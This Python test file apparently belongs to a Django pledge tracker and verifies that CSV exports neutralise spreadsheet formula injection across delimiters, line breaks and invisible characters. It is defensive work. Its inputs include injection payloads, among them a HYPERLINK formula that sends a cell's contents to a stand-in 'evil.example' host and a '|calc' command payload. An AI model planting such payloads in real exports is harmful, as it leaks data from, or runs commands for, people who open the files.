"""No cell of a CSV file is a formula, whichever sign a spreadsheet takes for the one between cells."""

import csv
import io
import unicodedata

import pytest
from django.test import Client
from hypothesis import example, given
from hypothesis import strategies as st

from tests.public.data.files import fetch, read_csv, read_json, read_sheets
from tests.support.records import make_pledge
from tracker.public.data.cells import CELL_STARTS, SIGNS, UNSEEN_CATEGORIES, csv_cell, is_dangerous
from tracker.public.data.cells import cell as plain_cell

DELIMITERS = ",;\t"
# Between a text and the sign in it; what is written in between; how many apostrophes that makes.
BREAKS = (";", "\t", "\n", "\r", "\r\n")
BETWEEN = ("", " ", "\u00a0", "\u200b", "\ufeff", '"', '""', "'", "''", ' "')
FORMULAS = ('=HYPERLINK("https://evil.example?"&A1,"See")', "+1", "-1", "@SUM(1)", "＝1+1", "−1", "|calc")
UNTOUCHED = (
    "a; b",
    "one\ntwo",
    "one\r\ntwo\ttabbed",
    "a;1=1",
    "a = b; c + d - e",
    "a,=1",
    "1;20;300",
    'He said: "one";\n"two"',
    ";",
    "a;",
    "وعد؛ =",
)


def cells_of(raw: str, delimiter: str) -> list[str]:
    """Return all cells as a program reads them that takes another sign between them."""
    return [cell for row in csv.reader(io.StringIO(raw, newline=""), delimiter=delimiter) for cell in row]


def is_run(cell: str) -> bool:
    """Whether the first letter that is seen makes a formula of a cell; an apostrophe is one that is seen."""
    seen = (each for each in cell if unicodedata.category(each) not in UNSEEN_CATEGORIES)
    first = next(seen, "a")
    return unicodedata.normalize("NFKC", first)[0] in SIGNS


def written(words: str) -> str:
    file = io.StringIO(newline="")
    csv.writer(file).writerow(["SY-2025-0001", csv_cell(words), "last"])
    return file.getvalue()


def undone(words: str) -> str:
    """Take one apostrophe off at each place that has one for safety."""
    for found in reversed(list(CELL_STARTS.finditer(words))):
        rest = words[found.end() :]
        if rest.startswith("'") and is_run(rest.lstrip("'\" \u00a0\u200b\ufeff\t\r\n")):
            words = words[: found.end()] + rest[1:]
    return words[1:] if words.startswith("'") and is_dangerous(words) else words


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("between", BETWEEN)
@pytest.mark.parametrize("break_", BREAKS)
def test_a_formula_within_a_text_is_none_to_any_program(break_: str, between: str, formula: str) -> None:
    words = f"Words{break_}{between}{formula}, more"
    assert csv_cell(words) == f"Words{break_}'{between}{formula}, more"
    raw = written(words)
    for delimiter in DELIMITERS:
        assert not [cell for cell in cells_of(raw, delimiter) if is_run(cell)], delimiter
    assert undone(csv_cell(words)) == words


@pytest.mark.parametrize("break_", BREAKS)
def test_control_without_the_apostrophe_it_is_one(break_: str) -> None:
    file = io.StringIO(newline="")
    csv.writer(file).writerow(["SY-2025-0001", plain_cell(f"Words, words{break_}=1+1"), "last"])
    told = [is_run(cell) for each in DELIMITERS for cell in cells_of(file.getvalue(), each)]
    assert any(told)


@pytest.mark.parametrize("words", UNTOUCHED)
def test_what_is_no_formula_stays_as_it_is(words: str) -> None:
    assert csv_cell(words) == words


@given(st.text(alphabet=st.sampled_from(";\t\r\n'\" ,=+-@a\u200b＝")))
@example('a;"";=1')
@example("\r\n=1")
@example("=1;=1\n;=1")
def test_no_text_makes_a_formula_in_any_program(words: str) -> None:
    raw = written(words)
    for delimiter in DELIMITERS:
        assert not [cell for cell in cells_of(raw, delimiter) if is_run(cell)], delimiter
    assert undone(csv_cell(words)) == words


def test_a_long_run_of_breaks_is_looked_at_once() -> None:
    run = "\n" * 50_000
    assert csv_cell(f"a{run}=1") == "a" + "\n'" * 50_000 + "=1"


@pytest.mark.django_db
def test_other_files_have_the_exact_words(client: Client) -> None:
    words = "We will publish:\n- the report;=1+1"
    make_pledge(quote=words)
    assert not [cell for cell in cells_of(fetch(client, "/data/pledges.csv").decode(), ";") if is_run(cell)]
    assert read_csv(client, "pledges")[0]["quote"] == "We will publish:\n'- the report;'=1+1"
    assert read_json(client, "pledges")[0]["quote"] == words
    assert read_sheets(client, "pledges")["pledges"][0]["quote"] == words
